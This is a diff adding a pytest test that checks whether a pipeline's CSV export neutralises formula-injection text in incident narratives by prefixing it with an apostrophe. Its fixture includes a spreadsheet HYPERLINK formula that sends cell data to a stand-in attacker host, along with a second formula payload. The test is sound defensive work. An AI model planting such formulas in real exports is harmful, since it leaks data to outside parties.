@@ -70,3 +70,34 @@ def test_a_warehouse_with_one_token_per_file_is_migrated_to_parts(tmp_path: Path
     assert files == 2 and parts > 2 and rows == 302
     pd.testing.assert_frame_equal(opened.drop(columns="_file_id"),
                                   pd.concat(frames.values(), ignore_index=True))
+
+
+def test_narratives_written_to_a_file_cannot_run_as_formulas(tmp_path: Path,
+                                                             monkeypatch) -> None:
+    """`pocmon narratives --out`: field text beginning with = + - @ reaches the CSV prefixed
+    with ', like every pocmon CSV, whole otherwise."""
+    from typer.testing import CliRunner
+
+    from pipelines.cli import app
+    from pipelines.config import get_settings
+    from pipelines.ingest.pseudonymise import load_or_create_key
+
+    key_file = tmp_path / "secrets" / "pseudonym.key"
+    key = load_or_create_key(key_file)
+    warehouse = tmp_path / "warehouse" / "pocmon.duckdb"
+    texts = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "@SUM(1+1)",
+             "Shots near the market; -- nobody hurt"]
+    with connect(warehouse) as con:
+        store_sealed(con, TABLE, [("file-1", 3, seal(pd.DataFrame({
+            "incident_id": ["I-1", "I-2", "I-3"], "narrative": texts}), key))])
+    monkeypatch.setenv("POCMON_WAREHOUSE", str(warehouse))
+    monkeypatch.setenv("POCMON_KEY_FILE", str(key_file))
+    get_settings.cache_clear()
+    try:
+        out = tmp_path / "narratives.csv"
+        result = CliRunner().invoke(app, ["narratives", "--out", str(out)])
+    finally:
+        get_settings.cache_clear()
+    assert result.exit_code == 0, result.output
+    written = pd.read_csv(out, keep_default_na=False)
+    assert written["narrative"].tolist() == ["'" + texts[0], "'" + texts[1], texts[2]]
